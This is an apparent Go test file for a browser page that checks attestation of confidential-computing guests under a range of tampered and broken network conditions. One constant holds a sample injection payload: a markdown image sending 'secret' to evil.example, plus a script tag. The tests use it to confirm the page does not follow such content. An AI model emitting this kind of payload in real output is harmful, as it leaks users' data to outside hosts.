package page

import (
	"bytes"
	"context"
	"encoding/base64"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/go-json-experiment/json"

	"chrysalis/attest/evidence"
	"chrysalis/attest/ratls"
	"chrysalis/measure/config"
	"chrysalis/measure/ton"
	"chrysalis/runtime/client/clienttest"
	"chrysalis/tools/internal/page/pagetest"
	"chrysalis/tools/internal/proxy"
	"chrysalis/tools/internal/receipts"
)

var shots = flag.Bool("screenshots", false, "write the screenshots of sdk/page anew")

// TestBecomeFirefox is no test: it is the program that pagetest.Firefox writes.
func TestBecomeFirefox(t *testing.T) { pagetest.BecomeFirefox(t, root) }

func htmlOf(t testing.TB, s Settings) []byte {
	t.Helper()
	html, err := HTML(program(t), root, s)
	if err != nil {
		t.Fatal(err)
	}
	return html
}

func settingsOf(t testing.TB, g *clienttest.Guest, url string) Settings {
	t.Helper()
	roots := rootsOf(g)
	return Settings{Guest: url, Policy: policyOf(t, g), Roots: Roots{VTPM: roots["vtpm"], TDX: roots["tdx"], SEVSNP: roots["sevsnp"]}}
}

// hostile is what a model may write to have a page ask somebody else.
const hostile = "![a](https://evil.example/?q=secret) [b](https://evil.example/) <img src=https://evil.example/x> <script>document.title='x'</script> https://evil.example/"

// guestThatSpoils does to its answers what the last thing that it was told names.
func guestThatSpoils(t *testing.T) *clienttest.Guest {
	g := guestOn(t, evidence.VTPM, true)
	hold := make(chan struct{})
	t.Cleanup(sync.OnceFunc(func() { close(hold) }))
	finish := g.Spoil
	g.Spoil = func(body []byte, r *clienttest.Reply) {
		finish(body, r)
		last := func(said string) bool { return bytes.Contains(body, []byte(`"content":"`+said+`"}],"stream"`)) }
		switch {
		case last("hostile"):
			r.Content = []string{hostile}
		case last("endless"):
			r.Hold = hold
			r.Events = func(events []string) []string { return events[:1] }
		case last("step back"):
			r.Receipt.Sequence = 1
		case last("unproven"):
			r.ReceiptKey = r.ClaimKey
		case last("decline"):
			r.Refusal = "too long"
		}
	}
	return g
}

// TestPage shows the page to browsers: from a file, from a site that also says what to ask, in front of guests that are good and of networks that
// are not.
func TestPage(t *testing.T) {
	dir := clients(t)
	pagetest.Tree(t, root)
	files := t.TempDir()
	type shown struct{ Name, URL, Platform string }
	input := struct {
		Browser                                pagetest.Browser
		Payer, Shots, Hostile, Guest           string
		Good                                   []shown
		Served, Framed, Altered, Broken, Stale string
		Unsealed, Redirect, Cut, Bare, Back    string
		Control, Proxied, Talker, Talk         string
	}{Payer: payer.String(), Hostile: hostile}
	var vtpm *clienttest.Guest
	for _, platform := range evidence.Platforms() {
		g := guestOn(t, platform, platform != evidence.SEVSNP)
		f := newFront(t, g)
		if platform == evidence.VTPM {
			vtpm, input.Guest = g, f.url
		}
		input.Good = append(input.Good, shown{platform.String(), pagetest.Save(t, files, platform.String()+".html", htmlOf(t, settingsOf(t, g, f.url))), platform.String()})
	}
	good := htmlOf(t, settingsOf(t, vtpm, input.Guest))

	var talker atomic.Pointer[clienttest.Guest]
	var elsewhere atomic.Bool // the next envelope meets another guest of those that share an address, which does not hold its key

	// A site that serves a page without a guest of its own, and says what to ask.
	bare := htmlOf(t, Settings{})
	served := settingsOf(t, vtpm, input.Guest)
	served.Policy, served.ReleaseList = listed(t, vtpm, time.Now().Add(-time.Hour), 2)
	settings, err := json.Marshal(served)
	if err != nil {
		t.Fatal(err)
	}
	withSDK(t, dir)
	sdk := http.StripPrefix("/sdk/", http.FileServer(http.Dir(filepath.Join(dir, "node_modules", "chrysalis-sdk"))))
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/", "/framed.html":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			if r.URL.Path == "/" {
				w.Write(bare)
				return
			}
			io.WriteString(w, `<!doctype html><title>frame</title><iframe src="/" width="800" height="600"></iframe>`)
		case "/page.json":
			w.Header().Set("Content-Type", "application/json")
			w.Write(settings)
		case "/rotate":
			talker.Load().KeysAhead.Store(clienttest.RotateKeys)
		case "/elsewhere":
			elsewhere.Store(true)
		default:
			sdk.ServeHTTP(w, r)
		}
	}))
	t.Cleanup(site.Close)
	input.Served, input.Framed, input.Control = site.URL+"/", site.URL+"/framed.html", site.URL
	input.Proxied = proxied(t, vtpm, bare)
	input.Bare = pagetest.Save(t, files, "bare.html", bare)

	altered := *program(t)
	altered.SHA256 = strings.Repeat("0", len(altered.SHA256)) // that is, another program stands there than the script names
	another, err := HTML(&altered, root, settingsOf(t, vtpm, input.Guest))
	if err != nil {
		t.Fatal(err)
	}
	input.Altered = pagetest.Save(t, files, "altered.html", another)
	broken := bytes.Clone(program(t).Packed)
	broken[len(broken)/2] ^= 1
	input.Broken = pagetest.Save(t, files, "broken.html", bytes.Replace(good, []byte(base64.StdEncoding.EncodeToString(program(t).Packed)), []byte(base64.StdEncoding.EncodeToString(broken)), 1))

	spoiled := func(name string, at func(*http.Request) bool, does func(http.ResponseWriter, *http.Request, func(...func(string, []byte) []byte))) string {
		f := newFront(t, vtpm)
		f.spoil = func(w http.ResponseWriter, r *http.Request, forward func(...func(string, []byte) []byte)) bool {
			if !at(r) {
				return false
			}
			does(w, r, forward)
			return true
		}
		return pagetest.Save(t, files, name+".html", htmlOf(t, settingsOf(t, vtpm, f.url)))
	}
	input.Stale = spoiled("stale", func(r *http.Request) bool { return !answersTo(r) }, func(_ http.ResponseWriter, r *http.Request, forward func(...func(string, []byte) []byte)) {
		r.URL.RawQuery = evidence.DetachedParameter + "=" + strings.Repeat("01", 32)
		forward()
	})
	input.Unsealed = spoiled("unsealed", answersTo, func(w http.ResponseWriter, _ *http.Request, _ func(...func(string, []byte) []byte)) {
		w.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprint(w, "data: {\"choices\":[{\"delta\":{\"content\":\"Bergen\"}}]}\n\ndata: [DONE]\n\n")
	})
	input.Redirect = spoiled("redirect", answersTo, func(w http.ResponseWriter, r *http.Request, _ func(...func(string, []byte) []byte)) {
		http.Redirect(w, r, site.URL+"/", http.StatusTemporaryRedirect)
	})
	input.Cut = spoiled("cut", answersTo, func(_ http.ResponseWriter, _ *http.Request, forward func(...func(string, []byte) []byte)) {
		forward(func(_ string, body []byte) []byte { return body[:400] })
	})

	for _, in := range []struct {
		name  string
		start func(testing.TB, string, string) pagetest.Browser
	}{{"Chromium", pagetest.Chromium}, {"Firefox", pagetest.Firefox}} {
		t.Run(in.name, func(t *testing.T) {
			shown, g := input, guestThatSpoils(t)
			f := newFront(t, g)
			talker.Store(g)
			g.Around = func(w http.ResponseWriter, _ *http.Request) bool {
				if !elsewhere.CompareAndSwap(true, false) {
					return false
				}
				clienttest.Rekey(w)
				return true
			}
			shown.Talker, shown.Talk = f.url, pagetest.Save(t, files, in.name+".html", htmlOf(t, settingsOf(t, g, f.url)))
			if shown.Browser = in.start(t, root, files); *shots && in.name == "Chromium" {
				shown.Shots = filepath.Join(mustAbs(t, root), "sdk", "page")
			}
			said := pagetest.Node(t, dir, "browser.mjs", shown)
			// What the page saved, the command line reads.
			var out struct{ Receipt string }
			if err := json.Unmarshal([]byte(strings.TrimSuffix(said, "passed\n")), &out); err != nil {
				t.Fatal(err)
			}
			file := filepath.Join(t.TempDir(), "receipt.json")
			if err := os.WriteFile(file, []byte(out.Receipt), 0o600); err != nil {
				t.Fatal(err)
			}
			archive, err := receipts.Read(file)
			if err != nil || len(archive.Entries) != 1 || archive.Entries[0].Guest != shown.Talker || archive.Entries[0].Payer != payer {
				t.Errorf("the saved receipt: %+v, %v", archive, err)
			}
		})
	}
}

func mustAbs(t testing.TB, path string) string {
	t.Helper()
	abs, err := filepath.Abs(path)
	if err != nil {
		t.Fatal(err)
	}
	return abs
}

// proxied starts the proxy in front of a guest, with the page inside.
func proxied(t testing.TB, g *clienttest.Guest, html []byte) string {
	t.Helper()
	s := settingsOf(t, g, "")
	settings, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	p, err := proxy.New(proxy.Config{Guests: []string{g.URL}, Attest: ratls.Config{Policy: g.Policy(), Roots: g.Roots()}, Page: html, PageSettings: settings,
		Payer: func(config.Measured) (ton.Address, error) { return payer, nil }})
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Verify(t.Context()); err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, stop := context.WithCancel(context.Background())
	served := make(chan error, 1)
	go func() { served <- p.Serve(ctx, l) }()
	t.Cleanup(func() { stop(); <-served })
	return "http://" + l.Addr().String() + "/"
}
